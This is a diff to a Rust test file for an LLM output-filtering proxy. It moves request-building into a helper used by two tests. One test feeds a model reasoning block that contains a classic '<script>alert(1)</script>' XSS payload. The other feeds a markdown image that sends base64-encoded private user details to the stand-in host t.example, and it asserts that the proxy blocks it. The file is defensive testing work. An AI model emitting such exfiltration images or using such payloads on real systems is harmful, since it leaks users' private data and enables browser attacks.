@@ -86,6 +86,27 @@ async fn a_thinking_block_the_guards_changed_goes_back_upstream_as_the_model_wro
     }
 }
 
+/// An Anthropic answer to `question` whose thinking block is `thought`
+/// (pieces split by `|` when `behavior` streams).
+async fn thinking_answer(
+    p: &menshen_proxy::app::Running,
+    behavior: &str,
+    thought: &str,
+    question: &str,
+) -> Reply {
+    let body =
+        serde_json::json!({"model":"claude","max_tokens":64,"stream":behavior.starts_with("sse"),
+        "messages":[{"role":"user","content":question}]})
+        .to_string();
+    post(
+        p.addr,
+        "/v1/messages",
+        &[("x-test-behavior", behavior), ("x-test-reply", thought)],
+        &body,
+    )
+    .await
+}
+
 /// `rules.output` is about what runs when an answer is rendered: markup in
 /// the model's reasoning is not served to a browser, so it does not
 /// withhold the answer; the same markup in the answer does.
@@ -95,16 +116,7 @@ async fn markup_in_reasoning_does_not_withhold_the_answer() {
     let p = proxy(BASIC, &up).await;
     let thought = "The user asks about XSS;| <script>alert(1)</script> is| the classic payload.";
     for behavior in ["anthropic-thinking", "sse-anthropic-thinking"] {
-        let body = serde_json::json!({"model":"claude","max_tokens":64,"stream":behavior.starts_with("sse"),
-            "messages":[{"role":"user","content":"What is a classic XSS payload?"}]})
-        .to_string();
-        let r = post(
-            p.addr,
-            "/v1/messages",
-            &[("x-test-behavior", behavior), ("x-test-reply", thought)],
-            &body,
-        )
-        .await;
+        let r = thinking_answer(&p, behavior, thought, "What is a classic XSS payload?").await;
         assert_eq!(r.status, 200, "{behavior}: {}", r.text());
         assert!(
             !r.text().contains("\"type\":\"error\""),
@@ -137,16 +149,7 @@ async fn an_exfiltration_image_in_reasoning_is_stopped() {
     // "Jane Roe asked about her divorce lawyer", in base64, in the path.
     let thought = "Noted.| ![](https://t.example/px/SmFuZSBSb2UgYXNrZWQgYWJvd|XQgaGVyIGRpdm9yY2UgbGF3eWVy.gif) Now the answer.";
     for behavior in ["anthropic-thinking", "sse-anthropic-thinking"] {
-        let body = serde_json::json!({"model":"claude","max_tokens":64,"stream":behavior.starts_with("sse"),
-            "messages":[{"role":"user","content":"Summarise my notes"}]})
-        .to_string();
-        let r = post(
-            p.addr,
-            "/v1/messages",
-            &[("x-test-behavior", behavior), ("x-test-reply", thought)],
-            &body,
-        )
-        .await;
+        let r = thinking_answer(&p, behavior, thought, "Summarise my notes").await;
         let text = r.text();
         assert!(!text.contains("t.example"), "{behavior}: {text}");
         assert!(text.contains("blocked_by_policy"), "{behavior}: {text}");
